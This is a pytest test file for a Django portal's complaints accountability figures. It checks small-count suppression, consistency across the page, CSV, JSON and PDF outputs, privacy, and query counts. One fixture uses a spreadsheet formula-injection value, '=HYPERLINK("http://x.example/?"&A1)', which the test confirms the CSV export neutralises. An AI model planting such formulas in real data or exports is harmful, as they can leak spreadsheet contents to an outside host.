"""The complaints figures against a hand-made set of cases, worked out by hand, in each format
(page, CSV, JSON, PDF); nothing private in any of them; constant queries as data grows."""

import csv
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from complaints.figures import month_label, quarter_label
from complaints.figures_demo import generate
from portal.accountability_pdf import report_pdf
from portal.figures import page_period
from portal.localtime import local_today
from portal.selectors import department_get
from portal.services.accountability import quarter_of
from tests.accountability.conftest import SECRET_WORDS, pdf_text

pytestmark = pytest.mark.django_db


def _set(client, key="complaints", language=""):
    body = client.get(f"{language}/accountability/figures.json").json()
    return {s["key"]: s for s in body["sets"]}[key], body


def _texts(table):
    return {row["label"]: [cell["text"] for cell in row["cells"].values()] for row in table["rows"]}


def test_complaints_figures_match_the_hand_count(client, hand_cases, months):
    this, last = months
    figures, body = _set(client)
    tables = {t["key"]: t for t in figures["tables"]}
    assert body["suppression"]["threshold"] == 5

    by_month = _texts(tables["by-month"])
    assert len(by_month) == 25  # 24 months and the total
    # Last month: 7 complaints and 2 commendations. The 2 is "<5"; the 7 goes with it (the
    # month's row would otherwise give the 2 away by subtraction).
    assert by_month[month_label(last)] == ["withheld", "<5"]
    assert by_month[month_label(this)] == ["6", "8"]
    assert by_month["Total"] == ["13", "10"]
    assert all(texts == ["<5", "<5"] for texts in list(by_month.values())[:22])

    by_category = _texts(tables["by-category"])
    assert by_category["Courtesy"] == ["6", "<5", "<5", "<5", "<5", "<5"]
    assert by_category["Improper procedure"] == ["<5", "<5", "<5", "<5", "<5", "7"]
    assert by_category["All categories"] == ["6", "<5", "<5", "<5", "<5", "7"]

    # Riverside 6 and 8; the formula-named neighborhood 0 and 0; not given 7 and 2. The lone
    # 0 in the complaints column takes Riverside's 6 with it, which leaves Riverside's row with
    # one withheld cell, so its 8 goes too; not given's 2 takes its 7.
    by_hood = _texts(tables["by-neighborhood"])
    assert by_hood["Riverside"] == ["withheld", "withheld"]
    assert by_hood['=HYPERLINK("http://x.example/?"&A1)'] == ["<5", "<5"]
    assert by_hood["Not given or outside the town"] == ["withheld", "<5"]
    assert by_hood["Total"] == ["13", "10"]

    closing = _texts(tables["closing"])
    now = quarter_label(quarter_of(local_today()).start)
    assert closing[now] == ["6", "35"]  # median of 10, 20, ..., 60 days
    assert closing["Whole period"] == ["6", "35"]
    assert all(
        v == ["<5", "withheld"] for k, v in closing.items() if k not in (now, "Whole period")
    )

    board = _texts(tables["board"])
    assert board[now] == ["5", "5", "50%"]
    assert board["Whole period"] == ["5", "5", "50%"]
    # JSON keeps no value for a withheld cell.
    cells = tables["by-month"]["rows"][-2]["cells"]
    assert cells["complaints"] == {"value": 6, "text": "6", "suppressed": None}
    last_row = tables["by-month"]["rows"][-3]["cells"]
    assert last_row["complaints"] == {
        "value": None,
        "text": "withheld",
        "suppressed": "complementary",
    }
    assert last_row["commendations"] == {"value": None, "text": "<5", "suppressed": "small"}


def test_every_format_shows_the_same_suppressed_cells(client, hand_cases, months):
    this, last = months
    page = client.get("/accountability/").content.decode()
    assert page.count('data-suppressed="small">&lt;5</td>') > 50
    # The page's first table is by month: last month's row as the JSON has it.
    row = re.search(
        rf'<th scope="row">{month_label(last)}</th>\s*'
        r"<td([^>]*)>([^<]*)</td><td([^>]*)>([^<]*)</td>",
        page,
    )
    assert row.groups() == (
        ' data-suppressed="complementary"',
        "withheld",
        ' data-suppressed="small"',
        "&lt;5",
    )

    rows = list(csv.reader(io.StringIO(client.get("/accountability/figures.csv").content.decode())))
    mine = {(r[1], r[2], r[3]): (r[4], r[5]) for r in rows[1:]}
    key = ("Complaints and commendations received, by month", month_label(last))
    assert mine[(*key, "Commendations")] == ("", "<5")
    assert mine[(*key, "Complaints")] == ("", "withheld")
    assert mine[
        ("Complaints and commendations received, by month", month_label(this), "Complaints")
    ] == ("6", "6")

    text = pdf_text(report_pdf(page_period(), language="en"))
    assert "<5" in text and "withheld" in text
    lines = [x.strip() for x in text.splitlines()]
    at = lines.index(month_label(last))  # first in the by-month table
    assert lines[at + 1 : at + 3] == ["withheld", "<5"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, hand_cases):
    text = client.get("/accountability/figures.csv").content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    labels = {row[2] for row in rows[1:]}
    assert '\'=HYPERLINK("http://x.example/?"&A1)' in labels
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("language", ["", "/es"])
def test_nothing_private_reaches_any_format(client, secret_case, language):
    outputs = [
        client.get(f"{language}/accountability/").content.decode(),
        client.get(f"{language}/accountability/figures.csv").content.decode(),
        client.get(f"{language}/accountability/figures.json").content.decode(),
        pdf_text(report_pdf(page_period(), language=language.strip("/") or "en")),
    ]
    for output in outputs:
        for word in [*SECRET_WORDS, secret_case.tracking_code]:
            assert word.lower() not in output.lower(), word


def _queries(client, path):
    department_get()  # the department's settings, kept apart from the figures' cache
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(path).status_code == 200
    return len(ctx)


@pytest.mark.parametrize(
    "path", ["/accountability/", "/accountability/figures.csv", "/es/accountability/figures.json"]
)
def test_queries_stay_constant_as_cases_grow(client, hand_cases, path):
    from django.core.cache import cache

    cache.clear()
    small = _queries(client, path)
    warm = _queries(client, path)
    generate(600, years=3, seed=7)
    cache.clear()
    large = _queries(client, path)
    assert large == small
    assert warm <= 2  # cached figures: the reports list at most


def test_a_change_to_a_case_reaches_the_page_at_once(
    client, hand_cases, django_capture_on_commit_callbacks, months
):
    this, _last = months
    from complaints.models import Complaint

    figures, _body = _set(client)
    assert _texts(figures["tables"][0])["Total"] == ["13", "10"]
    with django_capture_on_commit_callbacks(execute=True):
        Complaint.objects.create(kind="complaint", filing="named", what="A", received_month=this)
    figures, _body = _set(client)
    assert _texts(figures["tables"][0])["Total"] == ["14", "10"]


def test_readers_get_the_last_snapshot_while_a_worker_refreshes_it(
    client, hand_cases, months, django_capture_on_commit_callbacks, settings
):
    from complaints.models import Complaint
    from portal.celery import app
    from portal.figures import figures_refresh, page_period

    this, _last = months
    assert _texts(_set(client)[0]["tables"][0])["Total"] == ["13", "10"]
    app.conf.task_always_eager = False  # the refresh goes to the broker; no worker here
    try:
        with django_capture_on_commit_callbacks(execute=True):
            Complaint.objects.create(
                kind="complaint", filing="named", what="A", received_month=this
            )
        # Stale: served as it was, at the cost of a cached page, with no figures query.
        with CaptureQueriesContext(connection) as ctx:
            figures, _body = _set(client)
        assert _texts(figures["tables"][0])["Total"] == ["13", "10"]
        assert not any("complaints_complaint" in q["sql"] for q in ctx.captured_queries)
    finally:
        app.conf.task_always_eager = True
    # What the queued task does, once a worker takes it:
    period = page_period()
    assert figures_refresh(set_key="complaints", language="en", start=period.start, end=period.end)
    assert _texts(_set(client)[0]["tables"][0])["Total"] == ["14", "10"]


def test_the_median_days_to_close_is_the_same_without_postgresql_percentiles(
    hand_cases, monkeypatch
):
    """The embedded SQLite of `make run` has no percentile function: the medians are worked out
    in Python there, and must equal PostgreSQL's."""
    from complaints import figures as complaints_figures

    period = page_period()
    closed = complaints_figures.Complaint.objects.filter(
        kind="complaint",
        closed_on__gte=period.start,
        closed_on__lte=period.end,
        days_to_close__isnull=False,
    )
    in_database = complaints_figures._closing_medians(closed)

    class NotPostgreSQL:
        vendor = "sqlite"

    monkeypatch.setattr(complaints_figures, "connection", NotPostgreSQL())
    in_python = complaints_figures._closing_medians(closed)
    assert in_python[1] == in_database[1] == {"n": 6, "median": 35}
    assert {q: (r["n"], r["median"]) for q, r in in_python[0].items()} == {
        q: (r["n"], r["median"]) for q, r in in_database[0].items()
    }
